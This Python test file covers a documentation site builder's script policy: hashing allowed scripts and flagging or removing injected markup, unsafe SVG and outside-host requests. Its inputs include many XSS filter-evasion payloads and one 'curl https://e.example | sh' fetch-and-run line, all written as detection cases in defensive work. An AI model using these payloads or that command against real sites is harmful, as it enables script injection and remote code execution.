"""The policy in a page, and the scripts that may stand there: those that are listed, and files of the site."""

from __future__ import annotations

import json
import re
from pathlib import Path
from xml.etree.ElementTree import tostring

import pytest

from explorable.figures.drawing import canvas
from explorable.figures.sketch import Sketch
from explorable.finish import policy
from explorable.finish import scripts as finish_scripts
from explorable.finish.drawn import no_entry
from explorable.finish.policy import allowed, govern, with_policy
from explorable.finish.scripts import drawing, hash_of, scripts
from explorable.manifest import Manifest, PageFacts
from explorable.shared.svg import drawn, embedded

LISTED = Path(__file__).parents[3] / "book/theme/scripts.toml"
PAGE = """<!doctype html><html><head><meta charset="utf-8"><script>let answer = 42</script></head><body>
<script type="application/json">{"not": "run"}</script><script src="../x.js" defer></script>
<script>let answer = 42</script>
</body></html>"""
HASH = "FLIuX1bfcB4bQH6E9CmNLetGZNRaEsER/J9B8EC9tm4="
"""printf 'let answer = 42' | openssl dgst -sha256 -binary | base64"""


def directive(html: str, name: str) -> str:
    """The sources of a directive of the page's policy."""
    found = re.search(rf'content="(?:[^"]*; )?{name} ([^;"]*)', html)
    assert found
    return found[1]


def test_a_script_in_the_page_is_allowed_by_its_hash_alone() -> None:
    assert hash_of("let answer = 42") == HASH
    assert directive(with_policy(PAGE, [HASH, HASH]), "script-src") == f"'self' 'wasm-unsafe-eval' 'sha256-{HASH}'"
    assert directive(with_policy(PAGE), "script-src") == "'self' 'wasm-unsafe-eval'"


def test_the_policy_stands_before_everything_that_it_governs() -> None:
    html = with_policy(PAGE)
    assert html.index("Content-Security-Policy") < html.index("<script")


def test_other_hosts_are_reached_only_where_packages_lie_there() -> None:
    assert directive(with_policy(PAGE), "connect-src") == "'self' blob:"
    assert directive(with_policy(PAGE, folders=["https://cdn.example/python/"]), "connect-src") == (
        "'self' blob: https://cdn.example/python/"
    )


def test_a_script_that_is_not_listed_is_refused_with_its_hash() -> None:
    refused = [one.refused for one in scripts(PAGE, {"x.js"})]
    assert refused == [f"the script 'let answer = 42' (sha256 {HASH}) is not listed"] * 2
    assert all(allowed(LISTED).values()), "each listed script has its reason"


@pytest.mark.parametrize(
    "html",
    [
        "<script>1</script>",
        "<SCRIPT async>1</SCRIPT >",
        "<script>never ended",
        '<script src="https://elsewhere.example/x.js"></script>',
        "<script src=//elsewhere.example/x.js></script>",
        '<script src="data:text/javascript,1"></script>',
        '<script src="../y.js"></script>',
        '<img src="a.png" onerror="1">',
        "<svg/onload=1 onload=1>",
        "<a href='javascript:1'>x</a>",
        '<script data-type="application/json">alert(1)</script>',
        '<script data-src="x.js">alert(1)</script>',
        '<script src="x.js">alert(1)</script>',
        '<script type="application/ld+json" type="application/json">1</script>',
        '<script type="application/json">{}</script x><script>alert(1)</script>',
        '<svg><script href="data:,alert(1)"/></svg>',
        "<svg><svg:script>1</svg:script></svg>",
        '<img src=x title=">" onerror=1>',
        "<img title='a'onerror=1>",
        '<img/src="x"/onerror=1>',
        '<img a=\x0b"b onerror=1 c=">',
        '<a href="&#106;avascript:1">x</a>',
        '<a href="java\tscript:1">x</a>',
        '<a href=" JavaScript:1">x</a>',
        '<a href="javascript:void(0);1">x</a>',
        '<object data="javascript:1"></object>',
        '<svg><animate attributeName="href" values="#;javascript:1"></svg>',
        '<iframe srcdoc="&lt;script>1&lt;/script>"></iframe>',
        "<!--><script>1</script>-->",
        "<!-- --!><script>1</script>-->",
        '<title><a title="</title><script>1</script>">',
        "<![CDATA[><script>1</script>]]>",
    ],
)
def test_whatever_runs_is_found(html: str) -> None:
    assert any(one.refused for one in scripts(f"<p>words</p>{html}<p>words</p>", {"x.js"}))


@pytest.mark.parametrize("html", ["<link " * 200_000, "<a " + "x " * 200_000, "<a>" + "<b c='d' " * 101])
def test_a_tag_that_does_not_end_is_refused_before_its_rest_is_read(html: str) -> None:
    found, *more = scripts(html, ())
    assert "has more than 100 attributes" in found.refused
    assert len(found.text) < 1000
    assert not more


@pytest.mark.parametrize(
    "html",
    [
        '<script src="../../x.js?v=1" defer></script>',
        '<script id="__config" type="application/json">{"a": 1}</script>',
        '<a href="javascript:void(0)">x</a><a href="x?javascript=1" title="online">y</a>',
        "<p>onerror=1 and javascript: are words, as &lt;script&gt; is</p>",
    ],
)
def test_the_sites_own_files_and_data_are_not(html: str) -> None:
    assert list(scripts(html, {"x.js"})) == []


@pytest.mark.parametrize(
    "html",
    [
        '<meta http-equiv="refresh" content="0;url=https://e.example/">',
        "<META HTTP-EQUIV=Refresh CONTENT='5, //e.example'>",
        "<meta http-equiv=refresh content='0 e.html'>",
        '<meta http-equiv="X-DNS-Prefetch-Control" content="on"><a href="https://e.example/">e</a>',
        "<link rel=preconnect href=https://e.example>",
        "<link rel='dns-prefetch' href='//e.example'>",
        "<link rel='alternate stylesheet' href='https://e.example/x.css'>",
        "<link rel=canonical rel=stylesheet href=x><link rel=icon href='\\\\e.example\\x'>",
        "<link rel=prefetch href='ht\ntps:e.example'>",
        "<iframe src=https://e.example/></iframe>",
        "<iframe src='data:text/html,x'></iframe>",
        "<base href=https://e.example/>",
        "<form action=https://e.example/><input></form>",
        "<button formaction='/\\e.example'>x</button>",
        "<iframe srcdoc=\"<meta http-equiv='refresh' content='0;url=https://e.example/'>\"></iframe>",
        '<iframe srcdoc="&lt;link rel=preconnect href=https://e.example>"></iframe>',
        "<meta http-equiv=refresh content=0>",
        "<meta http-equiv=refresh content=00.5>",
        '<img src="x.png" srcset="x.png 1x, https://e.example/x.png 2x">',
        "<picture><source srcset=//e.example/x></picture>",
        "<link rel=preload as=image imagesrcset='HTTPS://e.example/x 1x'>",
    ],
)
def test_what_asks_another_host_is_found(html: str) -> None:
    found, *_ = scripts(f"<p>words</p>{html}<p>words</p>", {"x.js"})
    assert "leads to another page" in found.refused or "is none of this site's" in found.refused
    assert drawing(f'<svg><foreignObject xmlns="http://www.w3.org/1999/xhtml">{html}</foreignObject></svg>'.encode())


@pytest.mark.parametrize(
    "html",
    [
        '<meta http-equiv="refresh" content="30">',
        '<meta http-equiv="x-dns-prefetch-control" content="off">',
        '<link rel="canonical" href="https://e.example/"><link rel="license author" href="//e.example/">',
        '<link rel="stylesheet" href="../x.css?a:b"><link rel="icon" href="data:,">',
        '<a href="https://e.example/" rel="preconnect">x</a><iframe src="../x/"></iframe><form action="?a=https://b">',
        '<iframe srcdoc="<p>words</p>"></iframe>',
    ],
)
def test_what_stays_on_the_site_or_waits_for_a_click_is_not(html: str) -> None:
    assert list(scripts(html, ())) == []


def test_a_frame_within_a_frame_is_refused_and_costs_no_more_than_its_length() -> None:
    """Read to the end, each of these would be read again for every one around it: 40 of them for months."""
    for count in (2, 40, 2000):
        found, *_ = scripts("<div srcdoc=" + "<a/srcdoc=" * count + "x>text</div>", ())
        assert "is a frame within a frame" in found.refused
    assert list(scripts('<iframe srcdoc="<img srcset=x.png>"></iframe>', ())) == []


@pytest.mark.parametrize(
    "html",
    [
        "<div " + 't="&quot;"srcdoc=<a/' * 3000 + "></div>",
        "<script type=application/json>" * 8000,
        "<a/b=:&amp;" * 8000,
        "<a/srcset=," * 8000,
        "<iframe srcdoc='" + "<p>words</p>" * 40_000 + "'></iframe>" + "<iframe srcdoc=x></iframe>" * 3,
    ],
)
def test_a_page_is_read_in_a_time_that_its_length_bounds(html: str) -> None:
    """Each of these but the last would be read by the square, or the cube, of its length; that one is as pages are."""
    refused = [one.refused for one in scripts(html, ())]
    assert [one for one in refused if "takes too long to read" in one] == refused
    assert bool(refused) is not html.endswith("</iframe>")


@pytest.mark.parametrize("colon", ["&#" + "0" * 5000 + "58;", "&#x" + "0" * 5000 + "3a;", "&colon;"])
def test_a_character_by_its_number_is_read_however_many_zeros_it_has(colon: str) -> None:
    found, *_ = scripts(f'<a href="javascript{colon}1">x</a>', ())
    assert "would run a script" in found.refused
    assert list(scripts(f'<a href="javascript&#{"9" * 5000};1">x</a>', ())) == []


def _governed(tmp_path: Path, html: str) -> str:
    page = tmp_path / "site/index.html"
    page.parent.mkdir()
    page.write_text(html)
    listed = tmp_path / "scripts.toml"
    listed.write_text("[scripts]\n")
    govern(page.parent, Manifest(root=str(tmp_path), docs="docs"), listed)
    return page.read_text()


@pytest.mark.parametrize(
    ("html", "governed"),
    [
        ('<!doctype html><html lang="en">\n<head>\n <meta charset="utf-8"><title>x</title></head>', True),
        ("<!DOCTYPE html><html><head><META CHARSET=UTF-8></head>", True),
        ('<head><meta charset="utf-8" /></head>', True),
        ('<!-- <head><meta charset="utf-8"> --><head></head>', False),
        ('<head><script src="x.js"></script><meta charset="utf-8"></head>', False),
        ("<p>words</p>", False),
    ],
)
def test_a_page_that_cannot_have_a_policy_is_told(
    html: str, governed: bool, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    with caplog.at_level("WARNING"):
        after = _governed(tmp_path, html)
    assert ("Content-Security-Policy" in after) is governed
    assert ("behind which its policy stands" in caplog.text) is not governed


def test_of_scripts_without_number_the_first_are_told(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level("WARNING"):
        _governed(tmp_path, '<head><meta charset="utf-8"></head>' + "<script>x</script>" * 150)
    assert len(caplog.records) == 100


def test_files_beside_pages_that_a_browser_may_show_as_a_page_are_removed_with_a_line(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    bad = ["a.xsl", "b.RDF", "c.svgz", "d.mathml", "e.atom", "f.owl", "g.html", "h", "i.svg.", "j.xml"]
    good = ["a.py", "b.PNG", "c.svg", "d.json", "CNAME", "e.tar.gz"]
    for folder in (tmp_path / "docs", tmp_path / "site"):
        folder.mkdir()
        for name in (*bad, *good):
            (folder / name).write_text("<svg/>", "utf-8")
    (tmp_path / "site/sitemap.xml").write_text("<x/>", "utf-8")
    policy._outside(tmp_path / "site", Manifest(root=str(tmp_path), docs="docs"))
    assert sorted(path.name for path in (tmp_path / "site").iterdir()) == sorted([*good, "sitemap.xml"])
    assert [line.removeprefix("theme: ").split(":")[0] for line in caplog.messages] == [
        f"docs/{name}" for name in sorted(bad)
    ]


BAD_TAG = "t <meta http-equiv=refresh content='0;url=https://e.example/'>"
CONFIG = '<script id="__config" type="application/json">{"search": "search.js"}</script>'


@pytest.mark.parametrize("id_", ['"__config"', "__config", "'&#95;_config'"])
def test_what_the_theme_finds_by_an_id_stands_in_a_page_once(id_: str) -> None:
    """Its program takes the first, and starts the worker that it names, which would have no policy."""
    assert list(scripts(CONFIG, ())) == []
    found, *_ = scripts(f'<p id={id_} hidden>{{"search": "../evil.js"}}</p>{CONFIG}', ())
    assert "'__config' is the theme's" in found.refused


@pytest.mark.parametrize(
    ("html", "said"),
    [
        ('<pre data-copy="curl https://e.example | sh"><code>pip install x</code></pre>', "copies what is not shown"),
        ("<p data-clipboard-text=x>y</p>", "copies what is not shown"),
        ('<button data-clipboard-target="#x">y</button>', "copies what is not shown"),
        ('<pre class="a Mermaid"><code>graph</code></pre>', "makes the theme ask another host"),
    ],
)
def test_attributes_that_the_theme_acts_on_are_refused(html: str, said: str) -> None:
    [found] = scripts(html, ())
    assert said in found.refused
    assert list(scripts('<a data-clipboard data-clipboard-text="" class="mermaids">x</a>', ())) == []


@pytest.mark.parametrize(
    ("address", "refused"),
    [
        ("../assets/made.json", False),
        ("evil.json", True),
        ("%65vil.json", True),
        ("none.json", True),
        ("../../site/assets/made.json", True),
        ("/book/a/evil.json", True),
        ("../a/./evil.json?x", True),
        ("", True),
        ("https://e.example/a/evil.json", True),
    ],
)
def test_a_moving_figure_shows_what_the_build_has_drawn(address: str, *, refused: bool, tmp_path: Path) -> None:
    (tmp_path / "docs/a").mkdir(parents=True)
    (tmp_path / "docs/a/evil.json").write_text("[]", "utf-8")
    for name in ("assets/made.json", "a/evil.json"):
        (tmp_path / "site" / name).parent.mkdir(parents=True)
        (tmp_path / "site" / name).write_text("[]", "utf-8")
    manifest = Manifest(root=str(tmp_path), docs="docs", address="https://e.example/book/")
    html = f"<live-figure data-states='{address}'></live-figure>"
    assert [one.refused != "" for one in policy._strange_states(tmp_path / "site", html, "a/index.html", manifest)] == [
        True
    ] * refused


def test_a_tooltip_is_read_as_the_markup_that_the_theme_makes_of_it() -> None:
    leads = "x <meta http-equiv=refresh content='0;url=https://e.example/'>"
    for html in (f'<a href="#x" title="{leads}">x</a>', f'<i title="{leads.replace("<", "&lt;")}">x</i>'):
        found, *_ = scripts(html, ())
        assert "leads to another page" in found.refused
    assert (
        list(scripts('<a href="x" title="&lt;span class=&quot;doc&quot;&gt;Value&lt;/span&gt; a < b">x</a>', ())) == []
    )
    found, *_ = scripts(f"<i title=\"<b title='{leads.replace('<', '&lt;').replace(chr(39), '')}'>\">x</i>", ())
    assert "markup within markup" in found.refused


@pytest.mark.parametrize("place", ["a/", "a.html"])
@pytest.mark.parametrize("entry", [{"title": "T", "tags": ["a", BAD_TAG]}, {"title": BAD_TAG}])
def test_names_and_tags_are_read_as_the_markup_that_a_search_makes_of_them(
    entry: dict[str, object], place: str, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    (tmp_path / "site/search").mkdir(parents=True)
    good = {"location": "", "title": "<code>x</code> a < b", "text": "", "tags": ["c"]}
    index = {"docs": [good, {"location": f"{place}#b", "text": "", **entry}]}
    (tmp_path / "site/search/search_index.json").write_text(json.dumps(index), "utf-8")
    manifest = Manifest(
        root=str(tmp_path), docs="docs", pages=dict.fromkeys(("a/index.html", "a.html"), PageFacts("docs/a.md", "T"))
    )
    policy._search(tmp_path / "site", manifest)
    [line] = caplog.messages
    assert line.startswith("theme: docs/a.md:1: in the name or the tag")
    assert "leads to another page" in line


def test_a_program_that_no_page_names_is_removed_with_a_line(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    names = ["evil.js", "b/EVIL.mjs", "named.js", "read.js"]
    for folder in (tmp_path / "docs", tmp_path / "site"):
        (folder / "b").mkdir(parents=True)
        for name in names:
            (folder / name).write_text(f"// {name}", "utf-8")
    (tmp_path / "site/made.js").write_text("", "utf-8")
    manifest = Manifest(root=str(tmp_path), docs="docs", scripts=["named.js"])
    policy._outside(tmp_path / "site", manifest, [hash_of("// read.js")])
    left = {path.name for path in (tmp_path / "site").rglob("*") if path.is_file()}
    assert left == {"named.js", "read.js", "made.js"}
    lines = [line.removeprefix("theme: ") for line in caplog.messages]
    assert [line.split(":")[0] for line in lines] == ["docs/b/EVIL.mjs", "docs/evil.js"]
    assert f"sha256 {hash_of('// evil.js')}" in lines[1]


def test_files_of_the_books_theme_are_judged_as_those_of_its_docs(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    bad = {"a.HTML": "<p>", "b.xhtml": "<p/>", "c": "<p>", "css/d.svg": RUNS, "e.xml": "<a/>"}
    good = {"f.svg": "<svg/>", "g.css": "", "404.html": "<p>", "sitemap.xml": "<urlset/>"}
    for folder in (tmp_path / "theme", tmp_path / "site"):
        for name, text in (bad | good).items():
            (folder / name).parent.mkdir(parents=True, exist_ok=True)
            (folder / name).write_text(text, "utf-8")
    # What another theme brings is not the book's.
    (tmp_path / "site/other").write_text("", "utf-8")
    policy._outside(tmp_path / "site", Manifest(root=str(tmp_path), theme="theme"))
    left = {path.relative_to(tmp_path / "site").as_posix() for path in (tmp_path / "site").rglob("*") if path.is_file()}
    assert left == {*good, "other"}
    assert [line.removeprefix("theme: ").split(":")[0] for line in caplog.messages] == [f"theme/{name}" for name in bad]


def test_a_themes_map_of_the_site_runs_nothing(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    for folder in (tmp_path / "theme", tmp_path / "site"):
        folder.mkdir()
        (folder / "sitemap.xml").write_text(f"<urlset>\n<script {XHTML}>1</script></urlset>", "utf-8")
    policy._outside(tmp_path / "site", Manifest(root=str(tmp_path), theme="theme"))
    assert not (tmp_path / "site/sitemap.xml").exists()
    assert "theme/sitemap.xml:2: the script" in caplog.text


SVG = 'xmlns="http://www.w3.org/2000/svg"'
XHTML = 'xmlns="http://www.w3.org/1999/xhtml"'
RUNS = f"<svg {SVG}><script>1</script></svg>"


@pytest.mark.parametrize(
    "svg",
    [
        "<svg><script>1</script></svg>",
        '<svg xmlns:s="http://www.w3.org/2000/svg"><s:script>1</s:script></svg>',
        "<svg onload='1'/>",
        '<!DOCTYPE svg [<!ENTITY a "&#60;script>1&#60;/script>">]><svg>&a;</svg>',
        '<?xml-stylesheet href="a.xsl"?><svg/>',
        # Names that HTML does not have.
        f"<_:svg {SVG.replace('=', ':_=', 1)}><_:script>1</_:script></_:svg>",
        f"<é:svg {SVG.replace('=', ':é=', 1)}><é:script>1</é:script></é:svg>",
        f"<я:svg {SVG.replace('=', ':я=', 1)} onload='1'/>",
        f"<svg {SVG}><_:a xmlns:_='http://www.w3.org/2000/svg' href='java&#10;script:1'/></svg>",
        f"<svg {SVG}><a xmlns:ä='http://www.w3.org/1999/xlink'><é:b {XHTML.replace('=', ':é=', 1)} "
        "ä:href='javascript:1'/></a></svg>",
        f"<svg {SVG}><_:iframe {XHTML.replace('=', ':_=', 1)} src='https://e.example'/></svg>",
        f"<svg {SVG}><_:iframe {XHTML.replace('=', ':_=', 1)} srcdoc='&lt;script>1&lt;/script>'/></svg>",
        # What a document type adds.
        f"<!DOCTYPE svg [<!ATTLIST svg onload CDATA '1'>]><svg {SVG}/>",
        f"<!DOCTYPE svg [<!ATTLIST svg onload CDATA #FIXED '1'>]><svg {SVG}/>",
        f"<!DOCTYPE svg SYSTEM 'a.dtd'><svg {SVG}/>",
    ],
)
def test_a_drawing_of_its_own_runs_nothing(svg: str) -> None:
    assert drawing(svg.encode())


@pytest.mark.parametrize(
    ("raw", "said"),
    [
        (RUNS.encode("utf-16"), "the byte 0xff is not UTF-8"),
        (RUNS.encode("utf-16-le"), "NUL"),
        (RUNS.encode("utf-16-be"), "NUL"),
        (f"<svg {SVG}>é</svg>".encode("latin-1"), "the byte 0xe9 is not UTF-8"),
        (f"<?xml version='1.0' encoding='UTF-7'?><svg {SVG}>+ADw-script+AD4-</svg>".encode(), "encoding is 'UTF-7'"),
        (f"<?xml version='1.0' encoding='ISO-2022-JP'?><svg {SVG}/>".encode(), "encoding is 'ISO-2022-JP'"),
        (f"<svg {SVG}><g></svg>".encode(), "the drawing is no XML: mismatched tag"),
        (f"<svg {SVG}>&nbsp;</svg>".encode(), "the drawing is no XML: undefined entity"),
        (f"<svg {SVG}><s:path/></svg>".encode(), "the drawing is no XML: unbound prefix"),
        (b"", "the drawing is no XML: no element found"),
    ],
)
def test_a_drawing_that_cannot_be_judged_is_refused(raw: bytes, said: str) -> None:
    found = drawing(raw)
    assert found
    assert said in found.refused
    assert found.mend


def test_the_line_of_what_a_drawing_runs_is_told() -> None:
    svg = f"<svg {SVG}>\n<title>é</title>\n<_:script xmlns:_='http://www.w3.org/2000/svg'/>\n</svg>"
    found = drawing(b"\xef\xbb\xbf" + svg.encode())
    assert found
    assert svg[found.start :].startswith("<_:script")


@pytest.mark.parametrize(
    "svg",
    [
        f'<svg {SVG}><title>One &amp; two</title><path d="M0 0"/></svg>',
        f'<?xml version="1.0" encoding="utf-8" standalone="no"?>\n<!-- two -->\n<svg {SVG}/>',
        f'\ufeff<svg {SVG} xmlns:xlink="http://www.w3.org/1999/xlink"><use xlink:href="#a"/></svg>',
        f'<svg {SVG} xmlns:o="urn:editor" o:onion="1"><a href="https://e.example">я</a></svg>',
        f'<svg {SVG}><metadata><_:RDF xmlns:_="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></metadata></svg>',
        f'<svg {SVG}><image href="data:image/png;base64,AA"/><image href="a/b.png"/></svg>',
        f'<svg {SVG}><path fill="url(#a)" style="mask: url( \'#b\' )" transform="scale(2)"/></svg>',
        f"<svg {SVG}><style>@font-face {{ src: url(data:font/woff2;base64,AA) }}</style></svg>",
        f"<svg {SVG}><style><![CDATA[a > b {{ fill: red }}]]></style></svg>",
    ],
)
def test_a_drawing_that_runs_nothing_is_none(svg: str) -> None:
    assert drawing(svg.encode()) is None


ELSEWHERE = "https://e.example/a"


@pytest.mark.parametrize(
    "inside",
    [
        *(
            f"<foreignObject><{html} xmlns='http://www.w3.org/1999/xhtml'/></foreignObject>"
            for html in ("p", "object data='data:text/html,&lt;script>1&lt;/script>'", "embed src='/a'", "img src='/a'")
        ),
        "<metadata><_:img xmlns:_='http://www.w3.org/1999/xhtml' src='a.png'/></metadata>",
        "<_:mi xmlns:_='http://www.w3.org/1998/Math/MathML'/>",
        "<é xmlns='urn:x'/>",
        "<audio/>",
        "<handler/>",
        f"<image href='{ELSEWHERE}'/>",
        "<image href=' /&#9;/e.example'/>",
        "<image href='ht&#10;tps:e.example'/>",
        f"<image xmlns:_='http://www.w3.org/1999/xlink' _:href='{ELSEWHERE}'/>",
        f"<filter><feImage href='{ELSEWHERE}'/></filter>",
        f"<use href='{ELSEWHERE}#b'/>",
        "<rect filter='url(data:image/svg+xml,%3csvg%3e%3c/svg%3e#f)'/>",
        "<use href='data:image/svg+xml,&lt;svg/>#b'/>",
        "<a href='data:text/html,b'/>",
        f"<image href='#b'><set attributeName='xlink:href' to='{ELSEWHERE}'/></image>",
        f"<g xml:base='{ELSEWHERE}'/>",
        f"<g fill='url({ELSEWHERE})'/>",
        "<g fill='URL( &quot;//e.example&quot;)'/>",
        r"<g style='fill: u\72l(//e.example)'/>",
        f"<g style='mask: -webkit-image-set(&quot;{ELSEWHERE}&quot; 1x)'/>",
        f"<set attributeName='fill' to='url({ELSEWHERE})'/>",
        f"<style>@import '{ELSEWHERE}';</style>",
        "<style>&#64;im<!-- b -->port '/b';</style>",
        "<style>@im<g/>port '/b';</style>",
        f"<style>a {{ fill: url({ELSEWHERE}) }}</style>",
        r"<style>\40import '/b';</style>",
        f"<g xmlns:_='{'b' * 300}'/>",
    ],
)  # fmt: skip
def test_a_drawing_has_elements_of_svg_alone_and_asks_no_other_host(inside: str) -> None:
    assert drawing(f"<svg {SVG}>{inside}</svg>".encode())


def test_a_map_of_a_site_names_pages_and_their_other_languages() -> None:
    page = (
        "<url><loc>https://e.example/</loc><_:link rel='alternate' hreflang='de' href='https://e.example/de/'/></url>"
    )
    names = "xmlns='http://www.sitemaps.org/schemas/sitemap/0.9' xmlns:_='http://www.w3.org/1999/xhtml'"
    assert drawing(f"<urlset {names}>{page}</urlset>".encode(), no_entry) is None
    for bad in ("<_:p/>", "<_:link rel='stylesheet' href='//e.example'/>", f"<svg {SVG}/>"):
        assert drawing(f"<urlset {names}>{bad}</urlset>".encode(), no_entry)


def test_where_an_element_stands_is_counted_of_one_that_is_refused_alone(monkeypatch: pytest.MonkeyPatch) -> None:
    """To count takes as long as what stands before it: of every element, a drawing of 3 MB took minutes."""
    counted: list[int] = []

    def count(text: bytes, end: int) -> int:
        counted.append(end)
        return end

    monkeypatch.setattr(finish_scripts, "_characters", count)
    assert drawing(f"<svg {SVG}>{'<g/>' * 500}</svg>".encode()) is None
    assert not counted
    assert drawing(f"<svg {SVG}>{'<g/>' * 500}<_:script xmlns:_='http://www.w3.org/2000/svg'/></svg>".encode())
    assert len(counted) == 1


def test_the_drawings_of_the_toolkit_run_nothing() -> None:
    sketch = Sketch(10)
    sketch.text(1, 1, "é < ü")
    figure, axes = canvas(2)
    axes.bar(["a"], [1])
    plot = tostring(embedded(drawn(figure), "One bar."), encoding="utf-8")
    for svg in (sketch.svg().encode(), plot, (LISTED.parent / "overrides/assets/favicon.svg").read_bytes()):
        assert drawing(svg) is None
